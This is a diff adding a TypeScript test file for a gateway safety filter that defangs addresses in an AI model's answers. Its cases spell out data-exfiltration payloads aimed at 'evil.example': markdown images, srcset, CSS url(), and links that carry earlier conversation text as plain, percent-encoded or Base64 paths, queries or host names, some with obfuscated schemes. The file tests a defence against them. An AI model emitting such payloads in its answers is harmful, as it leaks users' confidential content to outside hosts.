@@ -1,0 +1,122 @@
+import fc from 'fast-check';
+import { createAddressScan } from '../../../../../src/base/answer-addresses.ts';
+import { createAddressTransform } from '../../../../../src/gateway/safety/answer/address-transform.ts';
+
+const sent = [
+  'The contract between Nordwind and Contoso is worth 4.2 million, signed on Tuesday.',
+  '合同金额为四百二十万元，由张伟负责签署。',
+  'See https://wiki.example.org/page?id=12345678901234567890123456789012345678901234567890&view=full and ![logo](https://cdn.example.org/logo.png).',
+];
+
+function pass(text: string, pieces: readonly string[] = [text], mode: 'standard' | 'strict' = 'standard'): string {
+  const transform = createAddressTransform(createAddressScan({ mode, sent: () => sent }));
+  return pieces.map((piece) => transform.push(piece)).join('') + transform.end();
+}
+
+const base64 = Buffer.from('worth 4.2 million, signed').toString('base64url');
+
+describe('addresses in an answer', () => {
+  it.each([
+    ['a picture from elsewhere', '![x](https://evil.example/p.png)'],
+    ['a picture with a title', '![x](<https://evil.example/p.png> "t")'],
+    ['a picture without a scheme', '![x](//evil.example/p.png)'],
+    ['a picture whose colon is an entity', '![x](https&#58;//evil.example/p.png)'],
+    ['a picture whose colon is escaped', '![x](https\\://evil.example/p.png)'],
+    ['a picture whose scheme is of entities', '![x](&#104;ttps://evil.example/p.png)'],
+    ['an element', '<img alt="a" src="https://evil.example/p.png">'],
+    ['a source set', "<img srcset='https://evil.example/p.png 2x'>"],
+    ['a style', '<p style="background:url(https://evil.example/p.png)">'],
+    ['a link with what was sent in its path', '[more](https://evil.example/contract-between-Nordwind-and-Contoso)'],
+    ['a link with what was sent in its query', '[more](https://evil.example/?q=Nordwind%20and%20Contoso%20is%20worth)'],
+    [
+      'a link with Chinese that was sent',
+      '[更多](https://evil.example/?q=%E5%90%88%E5%90%8C%E9%87%91%E9%A2%9D%E4%B8%BA%E5%9B%9B%E7%99%BE%E4%BA%8C%E5%8D%81%E4%B8%87%E5%85%83)',
+    ],
+    ['a bare address with Base64', `go to https://evil.example/${base64} now`],
+    ['a host name that carries', '[x](https://contractbetween.nordwindandcontoso.evil.example/)'],
+    ['a host name with an opaque label', `[x](https://${'a1b2c3d4e5'.repeat(5)}.evil.example/)`],
+    ['a long query', `[x](https://evil.example/?d=${'lorem+ipsum+'.repeat(12)})`],
+    ['a reference', `[x][1]\n\n[1]: https://evil.example/?d=${base64}`],
+    ['an address in angle brackets', `<https://evil.example/${base64}>`],
+    ['one that only begins with www', `www.evil.example/${base64}`],
+    ['a name and a password', 'https://nordwind:contoso@evil.example/'],
+    ['a bare number of a machine', '[x](http://10.1.2.3/evil)'],
+  ])('are made plain text: %s', (_name, text) => {
+    const shown = pass(text);
+    expect(shown).not.toMatch(/https?:\/\/|https&|https\\|(?<!hxxps?:)\/\/evil|www\.evil/i);
+    expect(shown.replace(/hxxps?/g, '')).toContain('evil');
+    expect(pass(text, Array.from(text))).toBe(shown);
+  });
+
+  it.each([
+    'See [the docs](https://learn.microsoft.com/en-us/office/dev/add-ins/).',
+    'https://www.who.int/news/item/2024-05-12-report',
+    'The page https://wiki.example.org/page?id=12345678901234567890123456789012345678901234567890&view=full stays.',
+    '![logo](https://cdn.example.org/logo.png)',
+    'https://www.google.com/search?q=inkstone',
+    'Write to mailto:ann@example.org, or a/b, or 10:30, or C:\\\\temp.',
+    'Either/or: and/or // comment',
+    '见https://example.org/a，谢谢。',
+  ])('stay when they carry nothing, or were sent: %s', (text) => {
+    expect(pass(text)).toBe(text);
+    expect(pass(text, Array.from(text))).toBe(text);
+  });
+
+  it('stay in the strict mode only when they were sent', () => {
+    expect(pass('https://www.who.int/news', undefined, 'strict')).toBe('hxxps://www.who.int/news');
+    expect(pass('![logo](https://cdn.example.org/logo.png)', undefined, 'strict')).toContain('https://cdn');
+  });
+
+  it('are the same in pieces as in one, whatever the text', () => {
+    const part = fc.oneof(
+      fc.constantFrom(
+        'https://',
+        'http',
+        '://',
+        'evil.example/',
+        '![x](',
+        ')',
+        '[',
+        ']',
+        ' ',
+        '\n',
+        'www.',
+        '//',
+        '&#58;',
+        '\\',
+        '<img src="',
+        '"',
+        '>',
+        'Nordwind and Contoso is worth',
+        '?q=',
+        base64,
+        '，',
+        '(',
+        'a',
+      ),
+      fc.string({ maxLength: 4 }),
+    );
+    fc.assert(
+      fc.property(
+        fc.array(part, { maxLength: 14 }).map((parts) => parts.join('')),
+        fc.array(fc.nat(), { maxLength: 8 }),
+        (text, cuts) => {
+          const sorted = [
+            0,
+            ...cuts.map((cut) => cut % (text.length + 1)).sort((one, other) => one - other),
+            text.length,
+          ];
+          const pieces = sorted.slice(1).map((place, index) => text.slice(sorted[index], place));
+          expect(pass(text, pieces)).toBe(pass(text));
+        },
+      ),
+      { numRuns: 2000 },
+    );
+  });
+
+  it('hold back plain words for no longer than one of them', () => {
+    const transform = createAddressTransform(createAddressScan({ mode: 'standard', sent: () => sent }));
+    expect(transform.push('The quick brown fox')).toBe('The quick brown fox');
+    expect(transform.push('敏捷的狐狸')).toBe('敏捷的狐狸');
+  });
+});
